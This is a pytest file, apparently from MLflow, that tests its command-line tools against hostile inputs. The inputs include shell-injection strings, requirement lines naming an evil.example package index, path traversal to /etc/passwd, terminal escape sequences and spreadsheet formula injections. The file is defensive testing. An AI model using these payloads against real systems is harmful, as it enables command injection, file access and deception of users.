"""Command lines made to harm their user: rows C01, C04 to C08 and C12 of the threat list."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys

import pytest
from click.testing import CliRunner

import mlflow
from mlflow.cli import cli
from mlflow.cli.terminal import shown
from tests.hostile.oracle import NETWORK

pytestmark = pytest.mark.usefixtures("oracle")

SHELL = ["$(touch marker)", "`touch marker`", "; touch marker", "&& touch marker", "| touch marker",
         "\ntouch marker\n", "'; touch marker; '", '"; touch marker; "', "\\\ntouch marker",
         "%0atouch marker", "${IFS}touch marker"]  # fmt: skip


def run(*args, **options):
    return CliRunner().invoke(cli, list(args), **options)


@pytest.fixture
def model(tmp_path):
    from sklearn.linear_model import LinearRegression

    path = tmp_path / "m"
    mlflow.sklearn.save_model(LinearRegression().fit([[1.0], [2.0]], [1.0, 2.0]), str(path))
    return path


# ── C01: model URIs ──────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("text", SHELL)
@pytest.mark.parametrize("command", ["serve", "predict", "prepare-env", "generate-dockerfile"])
@pytest.mark.parametrize("uri", ["runs:/x/{}", "models:/{}/1", "./{}", "{}"])
def test_c01_uris_are_one_word(text, command, uri):
    """A URI is one argument, whatever it holds; no shell reads it."""
    found = run("models", command, "-m", uri.format(text), input="{}")

    assert found.exit_code != 0
    assert not os.path.exists("marker")


@pytest.mark.parametrize("text", SHELL)
def test_c01_dockerfiles(model, tmp_path, text):
    """Nothing of a model's name or folder enters the Dockerfile."""
    if "/" in text:
        pytest.fail("a file name cannot hold a slash")
    renamed = model.rename(tmp_path / f"m{text}")
    out = tmp_path / "out"
    found = run("models", "generate-dockerfile", "-m", str(renamed), "-d", str(out))
    written = (out / "Dockerfile").read_text()

    assert found.exit_code == 0, found.output
    assert "marker" not in written
    for line in written.splitlines():
        assert re.match(r"(FROM python:3\.\d+-slim|(COPY|RUN|CMD|USER|EXPOSE) .*)\Z", line), line


@pytest.mark.parametrize("python", ["3.11\\nRUN touch marker", "3.11 AS x", "$(touch marker)"])
def test_c01_versions_in_dockerfiles(model, tmp_path, python):
    """A Python version that is none is refused."""
    (model / "python_env.yaml").write_text(
        f'python: "{python}"\nbuild_dependencies: []\ndependencies: []\n'
    )
    found = run("models", "generate-dockerfile", "-m", str(model), "-d", str(tmp_path / "out"))

    assert found.exit_code == 1
    assert not (tmp_path / "out" / "Dockerfile").exists()


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.example",
        "-e git+ssh://evil.example/x",
        "x @ file:///etc/passwd",
        "x; touch marker",
        "-r /etc/passwd",
    ],
)
@pytest.mark.parametrize("command", ["generate-dockerfile", "prepare-env"])
def test_l12_requirements(model, tmp_path, command, line):
    """Lines that are no plain packages are listed and refused, until they are allowed."""
    with open(model / "requirements.txt", "a", encoding="utf-8") as file:
        file.write(f"\n{line}\n")
    options = ["-d", str(tmp_path / "out")] if command == "generate-dockerfile" else []
    found = run("models", command, "-m", str(model), *options)

    assert found.exit_code == 1
    assert line in found.output
    assert "--allow-requirement-sources" in found.output
    assert not os.path.exists("marker")


# ── C04: artifact paths ──────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "path", ["../x", "../../../../../../etc/passwd", "/etc/passwd", "a/../../x", "..", "a\x00b",
             "..\\..\\x", "%2e%2e/x"]
)  # fmt: skip
@pytest.mark.parametrize("command", ["list", "download"])
def test_c04_paths_stay_below_the_run(command, path, tmp_path):
    """An artifact path never leaves the run."""
    with mlflow.start_run() as active:
        mlflow.log_text("inside", "a/b.txt")
    (tmp_path / "x").write_text("outside")
    options = ["-d", str(tmp_path / "out")] if command == "download" else []
    found = run("artifacts", command, "-r", active.info.run_id, "-a", path, *options)

    assert "root:" not in found.output
    if command == "download":
        assert found.exit_code != 0
    else:
        assert found.exit_code != 0 or [] == json.loads(found.stdout)


# ── C05: gc ──────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("option", ["--run-ids", "--experiment-ids", "--logged-model-ids"])
@pytest.mark.parametrize("value", ["../x", "1,../2", "/", "..", ".", "a/b", "~", "*", "$(touch x)"])
def test_c05_gc_takes_ids_only(option, value, tmp_path):
    """What is no id is refused, and nothing is removed."""
    with mlflow.start_run() as active:
        pass
    mlflow.delete_run(active.info.run_id)
    found = run("gc", option, value)

    assert found.exit_code == 1
    assert "deleted" == mlflow.get_run(active.info.run_id).info.lifecycle_stage


def test_c05_gc_leaves_what_is_not_the_runs(tmp_path):
    """Outside of the store, a run's own folder goes with it, and nothing else."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("x")
    number = mlflow.create_experiment("e", artifact_location=outside.as_uri())
    with mlflow.start_run(experiment_id=number) as active:
        mlflow.log_text("y", "y.txt")
    mlflow.delete_run(active.info.run_id)
    found = run("gc")

    assert found.exit_code == 0, found.output
    assert (outside / "keep.txt").exists()
    assert not (outside / active.info.run_id / "artifacts" / "y.txt").exists()


# ── C06: names on a terminal ─────────────────────────────────────────────────────────────────────

NAMES = ["\x1b[2J\x1b[1;1H", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\x07", "a\rb",
         "\u202egnp.exe", "\u2066x\u2069", "\x9b31m", "a\x08b", "\x1bP+q\x1b\\", "a\x00b"]  # fmt: skip


class Terminal(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self):
        return True


@pytest.mark.parametrize("name", NAMES)
def test_c06_names_are_escaped(name):
    """No name can move the cursor, hide text, ring, link or reverse."""
    found = shown(name, Terminal())

    assert not set(found) & set("\x1b\x07\x08\r\x00\x9b\u202e\u2066\u2069")


@pytest.mark.skipif(os.name != "posix", reason="needs a pseudo-terminal")
def test_c06_on_a_real_terminal():
    """The whole command on a pseudo-terminal: the run's name is shown as text."""
    import pty

    with mlflow.start_run(run_name="x\x1b[2Jy\u202ez"):
        pass
    control, terminal = pty.openpty()
    done = subprocess.run(
        [sys.executable, "-m", "mlflow", "runs", "list", "--experiment-id", "0"],
        stdout=terminal,
        check=True,
    )
    os.close(terminal)
    found = os.read(control, 65536)
    os.close(control)

    assert done.returncode == 0
    assert b"\x1b" not in found
    assert rb"x\x1b[2Jy\u202ez" in found


def test_c06_programs_get_names_exactly():
    """Output that is not a terminal is not changed."""
    with mlflow.start_run(run_name="x\x1b[2Jy"):
        pass

    assert "x\x1b[2Jy" in run("runs", "list", "--experiment-id", "0").stdout


# ── C07: spreadsheets ────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("value", ["=HYPERLINK(1)", "+1+cmd|x", "-1+1", "@SUM(1)", "\t=1", "\r=1"])
def test_c07_formulas(value):
    """A text that a spreadsheet would run is made text, in values and in headers."""
    with mlflow.start_run():
        mlflow.log_param("p", value)
        mlflow.set_tag("t", value)
    found = run("experiments", "csv", "-x", "0").stdout

    assert "'" + value.strip("\r\n") in found.replace('"', "") or "'" + value in found
    assert not re.search(r'(^|,)"?[=+@\t]', found, re.MULTILINE)


# ── C08: passwords in addresses ──────────────────────────────────────────────────────────────────

ADDRESSES = [
    "http://user:{}@127.0.0.1:9", "https://{}@127.0.0.1:9/path", "odd+scheme://u:{}@h",
    "postgresql+psycopg2://u:{}@127.0.0.1:9/db?connect_timeout=1", "s3://u:{}@bucket/key",
    "mysql://u:p%40{}@127.0.0.1:9/db", "ftp://u:{}@h/../x",
]  # fmt: skip
COMMANDS = {
    "runs": ["runs", "list", "--experiment-id", "0"],
    "gc": ["gc", "--dry-run"],
    "doctor": ["doctor"],
    "download": ["artifacts", "download", "-u", "{}"],
    "predict": ["models", "predict", "-m", "{}"],
}


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("command", COMMANDS)
def test_c08_passwords_are_in_no_output(address, command, monkeypatch, oracle):
    """Neither an error nor a report shows what an address carries for the server."""
    oracle.allowed = NETWORK  # to the server that was named, where nobody answers
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    address = address.format("hunter2")
    if "{}" not in COMMANDS[command]:
        monkeypatch.setenv("MLFLOW_TRACKING_URI", address)
    found = run(*[address if word == "{}" else word for word in COMMANDS[command]], input="{}")

    assert "hunter2" not in found.output
    assert found.exit_code != 0 or command == "doctor"


# ── C12: stores that are none ────────────────────────────────────────────────────────────────────


@pytest.mark.filterwarnings("ignore:Query string argument")  # of SQLAlchemy: it leaves them out
@pytest.mark.parametrize(
    "uri",
    ["sqlite:///{file}", "sqlite:///{file}?mode=rwc", "sqlite:///{folder}", "sqlite:////proc/version",
     "sqlite:///{folder}/../../no/x.db", "mysql+nothing://h/x", "oracle://h/x", "nothing://x", "http://", "s3://bucket/runs"],
)  # fmt: skip
@pytest.mark.parametrize("command", ["server", "gc", "db"])
def test_c12_stores_that_are_none(uri, command, tmp_path, oracle):
    """One line says what is wrong; what was no store is as it was."""
    oracle.allowed = NETWORK
    file = tmp_path / "notes.txt"
    file.write_text("no database " * 1000)
    given = uri.format(file=file, folder=tmp_path)
    words = {
        "server": ["server", "--port", "0", "--backend-store-uri", given],
        "gc": ["gc", "--backend-store-uri", given],
        "db": ["db", "upgrade", given],
    }
    found = run(*words[command])

    assert found.exit_code != 0, found.output
    assert "Traceback" not in found.output
    assert found.output.strip()
    assert "no database " * 1000 == file.read_text()
    assert ["notes.txt"] == os.listdir(tmp_path)
